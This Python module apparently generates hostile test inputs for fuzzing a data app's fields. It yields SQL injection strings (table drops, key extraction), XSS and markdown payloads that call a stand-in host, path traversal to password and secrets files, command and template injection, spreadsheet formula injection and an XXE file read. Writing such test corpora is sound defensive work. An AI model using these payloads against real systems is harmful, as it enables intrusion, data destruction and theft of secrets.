"""A thousand texts that somebody hostile, or a broken program, would put where a name, a filter or a number is due.

By family, each of a few ways in and a few loads, so that it can be read what a text is meant to do. One that could run
in a browser would set `window.__hit` or ask the host HIT_HOST.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Final

HIT_HOST: Final = "hit.invalid"
LONGEST: Final = 1_000_000


def _sql() -> Iterator[str]:
    closing = ("'", '"', "')", "'))", "`", "\\'", "''", "';", '");', "']", "$$", "$tag$", "\\", "%'", "1)", "*/")
    loads = (
        " OR 1=1", " OR 'a'='a", " UNION SELECT name FROM stores", " UNION ALL SELECT NULL, NULL, NULL",
        "; DROP TABLE stores", "; DELETE FROM klaviyo_orders; --", "; UPDATE grants SET role = 'admin'",
        "; ATTACH 'x.db'", "; COPY stores TO '/tmp/x'", " AND (SELECT count(*) FROM pg_sleep(9)) > 0",
        " || (SELECT api_key_encrypted FROM stores LIMIT 1) || ", "; SET ROLE postgres",
        "; INSERT INTO audit_log VALUES (1)",
        "; SELECT set_config('promolens.account', 'Zz9', true)", " FORMAT CSV SETTINGS readonly = 0",
    )  # fmt: skip
    for way, load in product(closing, loads):
        yield f"{way}{load}"
        if way in {"'", '"', "')"}:
            yield f"{way}{load} --"
            yield f"{way}{load} /*"
            yield f"x{way}{load} #"
    yield from (f"{before}{bind}{after}" for bind in (
        "{scope_account:String}", "{account:Identifier}", "{x:UInt64}", "$1", "$scope_account", ":account", ":1", "?",
        "%(scope_account)s", "%s", "%%", "%(", "@account", "${account}", "#{account}", "{account}", "{{account}}",
    ) for before, after in (("", ""), ("'", "'"), ("a ", " b")))  # fmt: skip
    yield from (
        "%", "_", "%%%", "__", "a%b", "\\%", "\\_", "[a-z]%", "(?i).*", "^(a+)+$", "a{1,99999}", ".*", "*", "\\Q",
    )  # fmt: skip
    yield from (
        "NULL", "null", "DEFAULT", "true", "CURRENT_USER", "main.stores", "information_schema.tables", "/*!50000*/",
    )  # fmt: skip
    yield from (
        "E'\\x27'", "U&'\\0027'", "0x27", "CHAR(39)", "\N{MODIFIER LETTER APOSTROPHE} OR 1=1",
        "\N{FULLWIDTH APOSTROPHE}",
    )  # fmt: skip
    yield from (
        "\\N", "\\.", "\\n", "\\t", "\\\\", "\\0", "\\x00", "\\u0000", "a\\", "'\\", "\t", "a\tb", "{a,b}",
        "['a','b']",
    )  # fmt: skip


def _html() -> Iterator[str]:
    acts = ("window.__hit=1", "alert(1)", f"fetch('//{HIT_HOST}/')", "parent.__hit=1")
    for act in acts:
        yield from (
            f"<script>{act}</script>", f"</script><script>{act}</script>", f"<ScRiPt >{act}</sCrIpT>",
            f"<img src=x onerror={act}>", f'"><img src=x onerror="{act}">', f"'><svg/onload={act}>",
            f"<svg><script>{act}</script></svg>", f"<body onload={act}>",
            f"<iframe srcdoc='<script>{act}</script>'></iframe>", f"<iframe src=javascript:{act}>",
            f"<a href=javascript:{act}>x</a>", f"<a href='java\tscript:{act}'>x</a>", f"<details open ontoggle={act}>",
            f"<input autofocus onfocus={act}>", f"<video><source onerror={act}></video>",
            f"<math href=javascript:{act}>x</math>", f"<form action=javascript:{act}><button>x</button></form>",
            f"<object data=javascript:{act}></object>", f"<!--<img src=--><img src=x onerror={act}>",
            f"<style>@import 'javascript:{act}';</style>", f"<template><script>{act}</script></template>",
            f"&lt;script&gt;{act}&lt;/script&gt;", f"&#60;img src=x onerror={act}&#62;",
            f"\\u003cscript\\u003e{act}\\u003c/script\\u003e", f"%3Cscript%3E{act}%3C/script%3E", f"javascript:{act}",
            f"JaVaScRiPt:{act}", f"data:text/html,<script>{act}</script>", f"vbscript:{act}", f"`-{act}-`",
            f"${{{act}}}", f"{{{{constructor.constructor('{act}')()}}}}", f"';{act}//", f'";{act}//',
            f"]]><script>{act}</script>", f"<x style=animation-name:a onanimationstart={act}>",
            f"<marquee onstart={act}>x</marquee>",
        )  # fmt: skip
    host = f"http://{HIT_HOST}"
    yield from (
        f"<img src={host}/i.png>", f"<link rel=stylesheet href={host}/s.css>", f"<script src={host}/s.js></script>",
        f"<base href={host}/>", f"<meta http-equiv=refresh content='0;url={host}/'>", f"<iframe src={host}/>",
        f"<div style='background:url({host}/b.png)'>x</div>", f"<video poster={host}/p.png>",
        f"<object data={host}/o>", f"<embed src={host}/e>", f"<picture><source srcset={host}/p.png><img></picture>",
        f"<svg><image href={host}/v.svg /></svg>", "<b>bold", "</b>", "</div></div></body>", "<", ">", "<>", "</",
        "<!DOCTYPE html>", "<![CDATA[x]]>", "<?php x ?>", "<%= 1 %>", "<br>two", "<sub>low</sub>", "<sup>high</sup>",
        "<i>x</i>", "<em>x</em>", "<span style='color:red'>x</span>", f"<a href='{host}'>x</a>",
        f"<a href='{host}' target=_top>free gift</a>", "<extra>x</extra>", "%{customdata}", "%{y:.2f}",
        "%{x}<extra></extra>",
    )  # fmt: skip


def _markdown() -> Iterator[str]:
    host = f"http://{HIT_HOST}"
    for word in ("a", "offer"):
        yield from (
            f"[{word}](javascript:window.__hit=1)", f"[{word}](JAVASCRIPT:alert(1))",
            f"[{word}](data:text/html,<script>window.__hit=1</script>)", f"[{word}]({host})",
            f"[{word}](<{host}> 'title')", f"![{word}]({host}/i.png)", f"![{word}](//{HIT_HOST}/i.png)",
            f"[![{word}]({host}/i.png)]({host})", f"[{word}][1]", f"[{word}]: {host}", f"<{host}/{word}>",
            f"{host}/{word}", f"www.{HIT_HOST}/{word}", f"<{word}@{HIT_HOST}>", f"[^{word}]",
            f"[{word}](../../settings)", f"[{word}](?store=Other)", f"**{word}**", f"*{word}*", f"__{word}__",
            f"~~{word}~~", f"`{word}`", f"``{word}", f"```{word}\nx\n```", f"# {word}", f"###### {word}", f"> {word}",
            f"- {word}", f"* {word}", f"+ {word}", f"1. {word}", f"2) {word}", f"- [x] {word}", f"    {word}",
            f"\t{word}", f"{word}\n===", f"{word}\n---", f"---\n{word}", f"| {word} | b |\n|---|---|\n| 1 | 2 |",
            f"${word}$", f"$${word}^2$$", f"$\\href{{{host}}}{{{word}}}$", f"$\\frac{{{word}}}{{2}}$", f":red[{word}]",
            f":blue-background[{word}]", f":rainbow[{word}]", f":green-badge[{word}]", f":small[{word}]",
            f":color[{word}]{{foreground=red}}", f":help[{word}]", f":shimmer[{word}]", f":material/{word}:",
            f":{word}:", f"{word} -> b", f"{word} <- b", f"{word} -- b", f"{word} >= 1", f"*{word}_`[", f"**{word}",
            f"_{word}", f"[{word}", f"]({word})", f"\\*{word}", f"{word}\\", f"{word}  \nb", f"<!-- {word} -->",
            f"&copy; {word}", f"&#x3c;{word}",
        )  # fmt: skip
    yield from (
        ":material/home:", ":smile:", ":streamlit:", ":+1:", ":material_home:", "::note[x]", ":::tip\nx\n:::",
        "::: {.x}", "$", "$$", "5$ to 9$",
    )  # fmt: skip


def _paths() -> Iterator[str]:
    names = ("etc/passwd", "secrets.toml", ".env", "promolens.duckdb", "windows\\win.ini")
    for name in names:
        for up in (
            "../",
            "..\\",
            "/",
            "//",
            "....//",
            "%2e%2e/",
            "..%2f",
            "..%c0%af",
            "file:///",
            "\\\\host\\share\\",
            "~/",
            "C:\\",
            "./../",
            "/proc/self/",
        ):
            yield f"{up * 3 if up.startswith('.') else up}{name}"
    yield from (
        "con", "nul.txt", "aux", ".", "..", "/", "\\", "a/b", "a\\b", "a:b", "a*b?", "x.xlsx\0.csv", "-rf", "--help",
        "-", "$HOME", "$(id)", "`id`",
    )  # fmt: skip
    yield from (
        "|id", ";id", "&& id", "a\nid", "> /tmp/x", "%PATH%", "\\\\?\\C:\\x", "http://localhost/", "ftp://x/y",
        "s3://b/k", "read_csv('/etc/passwd')",
    )  # fmt: skip


def _formats() -> Iterator[str]:
    yield from ("%s" * n for n in (1, 3, 40))
    yield from (
        "%n", "%x%x%x", "%d", "%p", "%99999999d", "%(name)s", "%1$s", "%c", "%5", "% s", "%-", "100%", "%%s",
        "%Y-%m-%d",
    )  # fmt: skip
    for field in (
        "0",
        "",
        "name",
        "self",
        "0.__class__",
        "0.__class__.__mro__[1]",
        "0.__init__.__globals__",
        "0[x]",
        "0!r",
        "0:>99999",
        "x.y[z]",
        "{0}",
    ):
        yield f"{{{field}}}"
    yield from (
        "{", "}", "{{", "}}", "{}{}{}", "{0", "f'{1+1}'", "#{7*7}", "${7*7}", "{{7*7}}", "{% x %}", "<%= 7*7 %>",
        "${jndi:ldap://x}", "@{x}", "$((1+1))", "\\x41",
    )  # fmt: skip
    yield from (
        "__import__('os').system('id')", "eval('1')", "__class__", "__proto__", "constructor", "toString",
        "hasOwnProperty", "self", "None", "undefined", "NaN",
    )  # fmt: skip


def _formulas() -> Iterator[str]:
    for start in (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\N{FULLWIDTH EQUALS SIGN}",
        "'=",
        '"=',
        ";=",
        ",=",
        "%0A=",
    ):
        for load in (
            "1+1",
            "cmd|' /C calc'!A0",
            f'HYPERLINK("http://{HIT_HOST}","x")',
            "SUM(A1:A9)",
            f'WEBSERVICE("http://{HIT_HOST}")',
            "DDE(1)",
        ):
            yield f"{start}{load}"


def _unicode() -> Iterator[str]:
    # What turns, joins, parts, hides or ends letters, and what is none.
    signs = (
        "\u202e", "\u202d", "\u2067", "\u200f", "\u200b", "\u200d", "\u2060", "\u00ad", "\ufeff", "\ufffd", "\uffff",
        "\ue000", "\ufe0f", "\u0301", "\U000e0041", "\U0010ffff", "\u2028", "\u2029", "\u0085", "\x0b", "\x0c",
        "\x1b[31m", "\b", "\x7f", "\a", "\x1f", "\r", "\n", "\r\n", "\u00a0", "\u202f", "\u3000", "\0",
    )  # fmt: skip
    for sign in signs:
        yield from (sign, f"a{sign}b", f"{sign}a", f"a{sign}")
    yield from (
        "é", "e\u0301", "Å", "\u212b", "ﬁ", "fi", "ﷺ", "ß", "ẞ", "İ", "ı", "i\u0307", "Σς", "ǅ", "ＡＢＣ", "𝐀𝐁𝐂",
        "раураl", "paypal", "①②", "½", "٣", "๑",
    )  # fmt: skip
    yield from (
        "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇩🇪", "🇩", "𠜎", "שלום", "مرحبا", "日本語", "ไทย", "한국어", "ABC שלום DEF",
        "Z" + "\u0301" * 60, "\u0300" * 9, "🙂" * 50,
    )  # fmt: skip
    yield from (
        "＜script＞", "‹b›", "＇ OR 1=1", "“quoted”", "a\u0000b\u0000", "\0" * 3, "\ufeff=1+1", "\u202eexe.xslx",
        "caf\u00e9", "cafe\u0301",
    )  # fmt: skip


def _numbers() -> Iterator[str]:
    yield from (
        "nan", "NaN", "-nan", "inf", "-Infinity", "1e999", "-1e999", "1e-999", "-0", "0", "00", "0x10", "0b1", "0o7",
        "1_000", "1,5", "1.5", "1.5.5",
    )  # fmt: skip
    yield from (str(2**power + more) for power in (31, 32, 53, 63, 64, 127, 128, 256) for more in (-1, 0, 1))
    yield from (f"-{2**power}" for power in (31, 63, 64, 128))
    yield from (
        "9" * 40, "0." + "0" * 40 + "1", "1" + "0" * 400, "+1", "--1", "1-", "1e", "e1", "١٢٣", "１２", "½", "1/0",
        "0/0", "1 000", "1'000", "(1)", "$1", "1%", ".", ",", "-",
    )  # fmt: skip
    for year in (
        "0000",
        "0001",
        "1582",
        "1899",
        "1970",
        "2038",
        "2262",
        "2299",
        "9999",
        "10000",
        "-0001",
        "292277026596",
    ):
        yield from (f"{year}-00-00", f"{year}-01-01", f"{year}-02-30", f"{year}-12-31", f"{year}-12-31T23:59:60Z")
    yield from (
        "31.02.2026", "2026-13-01", "2026-W54", "2026-366", "today", "now()", "99:99", "2026-11-22T25:61:61+99:99",
        "1e9", "epoch", "infinity", "-infinity",
    )  # fmt: skip


def _documents() -> Iterator[str]:
    yield from ("[" * depth + "]" * depth for depth in (1, 2, 500))
    yield from ('{"a":' * depth + "1" + "}" * depth for depth in (1, 3, 500))
    yield from (
        '{"__proto__":{"x":1}}', '{"a":1,"a":2}', "{", "}", "[", "]", '"', '""', "{}", '{"a":NaN}', "[1,]", "null",
        'a "\\ud800"', 'a "\\u0000"', '{"$where":"1"}', '{"$gt":""}',
    )  # fmt: skip
    yield from (
        '{"day":"' + "x" * 99 + '"}', "a=1&a=2", "a[]=1", "a%00b", "%", "%zz", "+", "a+b", "a;b", "a,b", "a|b", "#x",
        "?x=1", "&store=Other", "//", "\\u0041",
    )  # fmt: skip
    yield from (
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        "!!python/object:os.system", "---\n- &a [*a]", "a: b: c", 'O:8:"stdClass":0:{}', "(dp0\n.",
    )  # fmt: skip
    yield from (
        "", " ", "  ", "\t", "   a   ", "a" * 255, "a" * 256, "A" * 65, "all", "All", "Not known", "none", "None",
        "everything", "Other1", "Zz9", "0", "local admin", "group:admins",
    )  # fmt: skip


def _long() -> Iterator[str]:
    for unit in ("a", "'", "<b>", "é", "🙂", "%s", "[", "\\", "*_", "a b\n"):
        yield (unit * 10_000)[:10_000]
    yield from ("x" * 100_000, "<i>" * 40_000, "y" * LONGEST)


FAMILIES: Final = {
    "sql": _sql, "html": _html, "markdown": _markdown, "paths": _paths, "formats": _formats, "formulas": _formulas,
    "unicode": _unicode, "numbers": _numbers, "documents": _documents, "long": _long,
}  # fmt: skip
# Half of a character: no UTF-8 holds one, so no browser and no file sends one; a program's own error could.
HALVES: Final = ("\ud800", "a\udfffb", "\udce9", "\ud83d", "'\ud800 OR 1=1")


def hostile(*families: str) -> list[str]:
    """The texts of these families, of all where none is named; each once."""
    return list(dict.fromkeys(text for name in families or FAMILIES for text in FAMILIES[name]()))
